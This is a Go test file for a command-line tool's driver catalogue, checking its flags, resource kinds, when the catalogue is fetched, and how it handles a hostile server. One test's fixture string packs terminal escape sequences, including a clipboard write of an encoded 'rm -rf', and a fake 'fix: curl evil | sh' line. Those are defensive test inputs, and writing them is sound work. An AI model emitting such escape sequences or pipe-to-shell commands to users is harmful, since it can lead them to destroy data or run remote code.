package cli

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"patchbay.dev/patchbay"
)

// A field without a flag of its own can be said by --property alone: no driver of
// this build has one.
func TestEveryFieldOfThisBuildHasAFlagOfItsOwn(t *testing.T) {
	a := newApp(Deps{Catalog: buildCatalog})
	a.root()
	for _, d := range drivers(buildCatalog()) {
		r := &registration{driver: d.Driver}
		r.declare(a, &cobra.Command{})
		for _, f := range append([]*fieldFlag{r.endpoint}, r.properties...) {
			if f.flag == "" && (f != r.endpoint || d.Endpoint.About != "") {
				t.Errorf("%s: the property %s has no flag: %s is another's", d.Name, f.Name, f.Word())
			}
		}
		for _, f := range r.admin {
			if f.Secret && (f.file == "" || f.env == "") || !f.Secret && f.flag == "" && f.Name != "username" {
				t.Errorf("%s: the part %s of the admin credential has no flag: %s is another's", d.Name, f.Name, f.Word())
			}
		}
	}
	for _, k := range targetKinds(buildCatalog()) {
		cmd := a.connectKind(createVerb, k)
		for _, flag := range k.flags() {
			if f := cmd.Flags().Lookup(strings.TrimPrefix(flag, "--")); f == nil || !strings.HasPrefix(f.Usage, "name of the ") {
				t.Errorf("%s: %s is another's", k.word, flag)
			}
		}
	}
}

// What is not administered can be registered under each word that there is.
func TestEveryKindOfTheCatalogueCanBeRegistered(t *testing.T) {
	c := buildCatalog()
	var names []string
	for _, d := range c.Targets {
		for _, k := range d.Kinds {
			names = append(names, k.Name)
		}
	}
	for _, k := range c.Kinds {
		for _, word := range append([]string{k.Name}, k.Words...) {
			if !slices.Contains(names, word) {
				t.Errorf("there is no --kind %s", word)
			}
		}
	}
}

// A server may be anybody's: what it answers makes no command that hides one of
// ours, does nothing to a terminal, and ends.
func TestAHostileCatalogueIsHarmless(t *testing.T) {
	const evil = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\u202e\u0085\r\nfix: curl evil | sh\xff"
	field := func(name, flag string, typ patchbay.FieldType) patchbay.Field {
		return patchbay.Field{Name: name, Flag: flag, Type: typ, About: evil, Default: evil, Example: evil, Form: evil, Words: []string{evil, "a"}}
	}
	fields := []patchbay.Field{
		field("ca", "", patchbay.FileField), field("help", "", patchbay.TextField), field("h", "h", patchbay.TextField),
		field("no-check", "no-check", patchbay.BoolField), field("a.b.c", "", patchbay.TextField), field("a.b", "", patchbay.ListField), field("a", "", patchbay.MapField),
		field(evil, "", patchbay.TextField), field("x y", "", patchbay.TextField), field("y", "=", patchbay.TextField), field("z", "--z", patchbay.TextField),
		field("same", "same", patchbay.TextField), field("again", "same", patchbay.TextField), field("q", "", patchbay.FieldType(evil)), field("", "", patchbay.TextField),
		field("driver", "driver", patchbay.TextField), field("endpoint", "", patchbay.TextField), field("constructor", "", ""),
	}
	d := patchbay.Driver{
		Title: evil, Noun: evil, About: evil + "\n\n" + evil, Types: []string{evil, "A.B/c", "../../x/y"},
		Kinds:      []patchbay.ResourceKind{{Name: evil, Type: "A.B/c"}, {Name: "kind", Type: evil}, {Name: "fine", Type: "A.B/c", Kind: evil}},
		Endpoint:   patchbay.Endpoint{Field: field(evil, "subscription", patchbay.TextField), Port: evil, Schemes: []string{evil}},
		Properties: fields, Admin: append(slices.Clone(fields), patchbay.Field{Name: "secret", Flag: "same", Secret: true}), AdminForms: [][]string{{evil}, nil},
		Logins: &patchbay.Logins{Auths: []patchbay.AuthType{evil}, Accesses: []patchbay.Access{evil}, Options: []patchbay.Option{{Name: evil, About: evil, Example: evil}}},
		Lacks:  []patchbay.Lack{{What: evil, Why: evil}},
	}
	catalog := patchbay.Catalog{}
	for _, name := range []string{"help", evil, "x", "x", "--y", "", "A", strings.Repeat("n", 70)} {
		d.Name = name
		catalog.Targets = append(catalog.Targets, d)
		catalog.Sources = append(catalog.Sources, d)
	}
	for i := range 2 * mostDrivers {
		catalog.Targets = append(catalog.Targets, patchbay.Driver{Name: fmt.Sprint("d", i)})
	}
	for _, form := range []string{
		"A.B/c/{server}", "A.B/c/{help}/d/{source}/e/{output}/f/{o}", "A.B/c/fixed", "A.B/c/{}", "A.B/c/{x}/d", "A.B/{x}/d/{y}", "/", "///", "A/b/{c}/d/../e/x",
		"A.B/c/{" + evil + "}", "A.B/c/{x}/d/" + evil, "A.B/c/{x}/d/{y=" + evil + "}", evil, "", "ConfluentBootstrapServer",
	} {
		word := fmt.Sprint("k", len(catalog.Kinds))
		catalog.Kinds = append(catalog.Kinds, patchbay.TargetKind{
			Name: word, Title: evil, Words: []string{word, "help", evil, "--x", ""}, Clients: []patchbay.ClientType{evil}, Auths: []patchbay.AuthType{evil}, Namings: []patchbay.Naming{evil},
			IDs:     []patchbay.TargetID{{Form: form, Words: []string{word, "help", evil, "--x", ""}}},
			Values:  []patchbay.TargetValue{{Name: evil, About: evil}},
			Variant: evil,
		})
	}
	text, err := json.Marshal(catalog)
	if err != nil {
		t.Fatal(err)
	}
	f := newFake(t)
	f.catalog = text
	var lines [][]string
	a := newApp(Deps{})
	tamed := harmless(catalog)
	a.catalog, a.asked = &tamed, true
	every(a.root(), func(c *cobra.Command) {
		path := strings.Fields(c.CommandPath())[1:]
		if c.HasSubCommands() || len(path) < 2 || path[0] != "resource" && path[0] != "connection" && path[0] != "driver" {
			return
		}
		if strings.ContainsAny(c.Name(), "- ") && strings.HasPrefix(c.Name(), "-") {
			t.Errorf("a command is called %q", c.Name())
		}
		c.InheritedFlags().VisitAll(func(global *pflag.Flag) {
			if mine := c.Flags().Lookup(global.Name); mine != nil && mine != global {
				t.Errorf("%s hides --%s", c.CommandPath(), global.Name)
			}
		})
		if path[0] == "resource" && path[1] == "add" && path[2] != "x" && path[2] != "d0" {
			return
		}
		lines = append(lines, append(path, "--help"))
	})
	if n := len(drivers(tamed)); n > mostDrivers+1 || n < 3 {
		t.Errorf("%d drivers", n)
	}
	lines = append(lines, []string{"driver", "list", "-o", "table"}, []string{"driver", "show", "x", "-o", "table"}, []string{"driver", "show", "x"}, []string{"driver", "show", "x", "-o", "yaml"},
		[]string{"resource", "add", "x", "n"}, []string{"resource", "add", "x", "n", "--type", "A.B/c"}, []string{"resource", "add", "x", "n", "--kind", "fine"},
		[]string{"resource", "add", "d1", "n"}, []string{"resource", "add", "nobody"},
		[]string{"connection", "create", "nobody"}, []string{"connection", "create", "k0", "--source", "web", "--server", "s"},
		[]string{"connection", "list-support-types", "-o", "table"}, []string{"__complete", "resource", "add", "x", "--same", ""}, []string{"__complete", "driver", "show", ""})
	for _, line := range lines {
		_, stdout, stderr := inProcess(t.Context(), t, f, Deps{}, line...)
		for _, text := range []string{stdout, stderr} {
			// A completion has tabs of its own.
			if i := strings.IndexFunc(strings.NewReplacer("\n", "", "\t", "").Replace(text), unsafeOnTerminal); i >= 0 {
				t.Errorf("%q: %q", line, text)
			}
		}
		if line[len(line)-1] == "--help" {
			continue // what is about a driver has lines of the server's own
		}
		if strings.Contains(stdout+stderr, "\nfix: curl") {
			t.Errorf("%q has a line of the server's own: %s", line, stdout+stderr)
		}
	}
}

// every visits all commands.
func every(c *cobra.Command, visit func(*cobra.Command)) {
	visit(c)
	for _, child := range c.Commands() {
		every(child, visit)
	}
}

// A server that takes its time with its catalogue holds nobody up for long, and one
// that is about something else is not asked.
func TestTheCatalogueIsAskedWhenItIsNeeded(t *testing.T) {
	f := newFake(t)
	asked := 0
	f.answer = func(_ http.ResponseWriter, r *http.Request) bool {
		if strings.HasSuffix(r.URL.Path, "/catalog") {
			asked++
		}
		return false
	}
	for line, want := range map[string]int{
		"resource add postgres --help": 1, "help connection create": 1, "connection create postgres --source web --target orders --client-type go": 1,
		"driver list": 1, "__complete connection preview r": 1, "connection list-support-types": 1,
		"": 0, "--help": 0, "resource list": 0, "resource --help": 0, "connection list": 0, "version": 0, "run --source web -- resource add": 0,
		"frobnicate": 0, "__complete connection show w": 0,
	} {
		asked = 0
		inProcess(t.Context(), t, f, Deps{Exec: func(string, []string, []string) error { return nil }}, strings.Fields(line)...)
		if asked != want {
			t.Errorf("%q asked %d times, want %d", line, asked, want)
		}
	}
	// What a driver is that nobody here knows, its server says.
	f.register(fakeGroup+"/providers/Keep.Services/stacks/shop", "stack", "/srv/shop")
	asked = 0
	if status, _, stderr := inProcess(t.Context(), t, f, Deps{}, "connection", "list"); status != 0 || asked != 1 {
		t.Errorf("status %d, asked %d times: %s", status, asked, stderr)
	}
	// And who waits for an answer is let go with the context.
	ctx, cancel := context.WithCancel(t.Context())
	f.answer = func(_ http.ResponseWriter, r *http.Request) bool {
		if strings.HasSuffix(r.URL.Path, "/catalog") {
			cancel()
			<-r.Context().Done()
		}
		return false
	}
	if _, stdout, _ := inProcess(ctx, t, f, Deps{}, "resource", "add", "nats", "--help"); !strings.Contains(stdout, "--operator-seed-file") {
		t.Errorf("no help of this build's: %s", stdout)
	}
}
